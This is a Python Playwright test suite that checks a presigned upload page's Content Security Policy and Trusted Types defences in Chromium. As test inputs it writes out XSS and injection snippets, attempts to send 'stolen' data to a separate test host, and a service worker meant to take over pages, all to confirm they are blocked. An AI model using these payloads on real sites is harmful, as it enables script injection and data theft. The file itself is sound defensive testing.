"""What a page of `presign page` lets through, and what it stops, in Chromium."""

from collections.abc import Callable
from pathlib import Path

from tests.browser.people import Seen, choose, files, uploaded, visit
from tests.browser.sites import SITE, open_host, open_site
from tests.enforcement.clients import document
from tests.enforcement.places import Place
from tests.presign.presign_support import Presign

import pytest
from playwright.sync_api import BrowserContext, Error, Page

pytestmark = pytest.mark.parametrize("place", ["MiniStack"], indirect=True)

VIOLATIONS = """() => {
    window.violations = [];
    document.onsecuritypolicyviolation = (event) => violations.push(event.effectiveDirective);
}"""
INJECTED = {
    "script": 'const made = document.createElement("script"); made.textContent = "window.ran = true";',
    "script of the bucket": 'const made = document.createElement("script"); made.src = location.href;',
    "script in a URL": 'const made = document.createElement("script"); made.src = "data:,window.ran = true";',
    "handler": 'const made = document.createElement("p"); made.setAttribute("onclick", "window.ran = true");',
    "frame": 'const made = document.createElement("iframe"); made.src = location.href;',
    "image": f'const made = document.createElement("img"); made.src = "{SITE}/?stolen";',
    "style sheet": 'const made = document.createElement("link"); made.rel = "stylesheet"; made.href = "/x";',
    "style": 'const made = document.createElement("style"); made.textContent = "* { display: none }";',
    "base": f'const made = document.createElement("base"); made.href = "{SITE}/";',
}


@pytest.mark.parametrize("what", INJECTED)
def test_nothing_that_is_put_into_the_page_runs_or_loads(upload: Page, seen: Seen, what: str) -> None:
    upload.evaluate(VIOLATIONS)
    script = f"() => {{ {INJECTED[what]} document.body.append(made); made.click?.(); }}"
    # Trusted Types stop scripts' sources before they are there.
    stopped = refused(upload, script)
    upload.wait_for_timeout(300)
    assert stopped or upload.evaluate("violations.length") > 0
    assert upload.evaluate("window.ran") is None
    assert upload.evaluate("document.baseURI") == upload.url
    assert all("Content Security Policy" in problem or "Trusted" in problem for problem in seen.problems)
    seen.problems.clear()


def refused(page: Page, script: str) -> bool:
    """Whether the browser throws at what a script does."""
    try:
        page.evaluate(script)
    except Error:
        return True
    return False


@pytest.mark.parametrize(
    "script",
    [
        "() => { document.body.innerHTML = '<img src=x onerror=alert(1)>'; }",
        "() => { document.write('<p>'); }",
        "() => { window.setTimeout('window.ran = true'); }",
        "() => { new Worker('data:,'); }",
    ],
)
def test_text_never_becomes_html_or_code(upload: Page, seen: Seen, script: str) -> None:
    assert refused(upload, script)
    seen.problems.clear()


@pytest.mark.parametrize("how", ["fetch", "XMLHttpRequest", "sendBeacon", "WebSocket", "EventSource", "form"])
def test_the_page_can_send_to_nobody_else(upload: Page, seen: Seen, how: str) -> None:
    scripts = {
        "fetch": f"fetch('{SITE}/')",
        "XMLHttpRequest": f"const one = new XMLHttpRequest(); one.open('GET', '{SITE}/'); one.send()",
        "sendBeacon": f"navigator.sendBeacon('{SITE}/', 'stolen')",
        "WebSocket": "new WebSocket('ws://localhost:5173/')",
        "EventSource": f"new EventSource('{SITE}/')",
        "form": f"const one = document.createElement('form'); one.action = '{SITE}/'; "
        "document.body.append(one); one.submit()",
    }
    upload.evaluate(VIOLATIONS)
    before = upload.url
    refused(upload, f"async () => {{ {scripts[how]}; }}")
    upload.wait_for_function("violations.length > 0")
    directive = "form-action" if how == "form" else "connect-src"
    assert upload.evaluate("violations") == [directive]
    assert upload.url == before
    seen.problems.clear()


def test_the_page_can_send_to_the_bucket(upload: Page, seen: Seen) -> None:
    """The same request that is stopped above, to the own host."""
    assert upload.evaluate("async () => (await fetch(location.href)).status") == 200


def test_what_is_put_into_a_page_without_a_policy_does_run(place: Place, context: BrowserContext) -> None:
    """So the tests above can fail."""
    page = open_site(context)
    page.evaluate(f"() => {{ {INJECTED['script']} document.body.append(made); }}")
    assert page.evaluate("window.ran") is True


def test_nothing_is_kept_in_the_browser(
    place: Place, upload: Page, link: Callable[..., str], context: BrowserContext, tmp_path: Path
) -> None:
    choose(upload, *files(tmp_path, "a.csv"))
    uploaded(upload, 1)
    place.store("out/kept.csv", b"content")
    downloads = visit(context.new_page(), link("get", "out/kept.csv"))
    assert context.cookies() == []
    assert context.storage_state(indexed_db=True)["origins"] == []
    for page in (upload, downloads):
        kept = """async () => [
            localStorage.length, sessionStorage.length, (await indexedDB.databases()).length,
            (await caches.keys()).length, (await navigator.serviceWorker.getRegistrations()).length,
        ]"""
        assert page.evaluate(kept) == [0, 0, 0, 0, 0]


@pytest.mark.parametrize("kind", ["put", "get"])
def test_only_the_links_that_the_page_was_made_with_are_taken(
    place: Place, link: Callable[..., str], context: BrowserContext, kind: str
) -> None:
    for name in ("a.csv", "b.csv"):
        place.store(f"out/{name}", b"content")
    url = link(kind, "out/a.csv" if kind == "get" else "inbox/")
    base, _, fragment = url.partition("#")
    # Of the same object, the links of the same second are the same.
    other = link(kind, "out/b.csv" if kind == "get" else "other/").partition("#")[2]
    for wrong in ("", "#", f"#{fragment[:-1]}", f"#{fragment}x", f"#{other}"):
        page = visit(context.new_page(), f"{base}{wrong}")
        assert "The link of this page is not whole" in page.get_by_role("alert").inner_text()
        assert page.locator("#work").is_hidden()
    assert visit(context.new_page(), url).locator("#work").is_visible()


def test_what_follows_the_hash_is_never_sent(upload: Page, seen: Seen) -> None:
    fragment = upload.url.partition("#")[2]
    assert len(fragment) > 100
    sent = [url.partition("#")[0] for url in seen.urls]
    assert not any(fragment[:40] in url for url in sent)


def test_a_page_of_somebody_else_shows_it_in_no_frame(
    link: Callable[..., str], context: BrowserContext, seen: Seen
) -> None:
    url = link("put", "inbox/")
    site = open_site(context, f'<iframe src="{url}" title="framed"></iframe>')
    framed = site.frame_locator("iframe")
    framed.get_by_text("Open this page in a window of its own").wait_for()
    assert framed.get_by_label("Choose files").is_hidden()
    seen.urls.clear()
    seen.problems.clear()


REGISTER = """async ([url, scope]) => {
    try {
        return (await navigator.serviceWorker.register(url, scope ? {scope} : {})).scope;
    } catch (error) {
        return error.message;
    }
}"""


def test_no_uploaded_script_takes_the_pages_over(
    place: Place, presign: Presign, upload: Page, context: BrowserContext, seen: Seen, tmp_path: Path
) -> None:
    worker = tmp_path / "worker.js"
    worker.write_text("self.onfetch = (event) => event.respondWith(new Response('taken over'))")
    choose(upload, worker)
    (key,) = uploaded(upload, 1)
    pages = f"/{place.bucket}/_presign/"
    inside = document(presign, "get", key)["url"]
    # As it was uploaded, it is no script; not even where a script of the bucket's own host asks.
    other = open_host(context.new_page(), place)
    assert "unsupported MIME type" in other.evaluate(REGISTER, [inside, None])
    # A link that says that it is one serves it below its own folder, and nowhere above.
    script = document(presign, "get", "--inline", "--content-type", "text/javascript", key)["url"]
    folder = f"/{place.bucket}/{key.rpartition('/')[0]}/"
    assert "not under the max scope allowed" in other.evaluate(REGISTER, [script, pages])
    assert other.evaluate(REGISTER, [script, None]).endswith(folder)
    # From the page itself there is no way at all.
    assert "requires 'TrustedScriptURL'" in upload.evaluate(REGISTER, [script, None])
    assert visit(context.new_page(), upload.url).title() == "Upload files"
    seen.problems.clear()


def test_without_javascript_the_page_says_what_it_needs(link: Callable[..., str], page: Page) -> None:
    url = link("put", "inbox/")
    browser = page.context.browser
    assert browser
    plain = browser.new_context(java_script_enabled=False).new_page()
    plain.goto(url)
    assert "This page needs JavaScript" in plain.inner_text("main")
    plain.context.close()
